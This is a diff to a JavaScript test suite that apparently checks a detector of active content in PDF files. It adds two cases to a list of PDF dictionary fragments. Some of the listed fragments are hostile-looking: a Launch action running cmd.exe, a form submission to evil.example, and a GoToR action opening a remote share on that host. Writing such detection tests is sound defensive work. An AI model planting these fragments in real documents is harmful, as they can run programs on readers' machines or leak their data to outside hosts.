@@ -22,6 +22,8 @@ describe('a PDF is active', () => {
     ['with a tree of scripts', '/Names << /JavaScript 9 0 R >>'],
     ['that starts a program', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
     ['that sends a form', '/AcroForm << /A << /S/SubmitForm/F(https://evil.example) >> >>'],
+    ['with a form that has scripts of its own', '/AcroForm << /XFA 5 0 R >>'],
+    ['that opens a file elsewhere', '/OpenAction << /S/GoToR /F (//evil.example/share/a) >>'],
     ['with files in it', '/Names<</EmbeddedFiles 9 0 R>>'],
     ['with a film', '/Annots [ << /Subtype /RichMedia >> ]'],
     ['with objects that cannot be looked at', '/X << /Type/ObjStm /N 3 >>'],
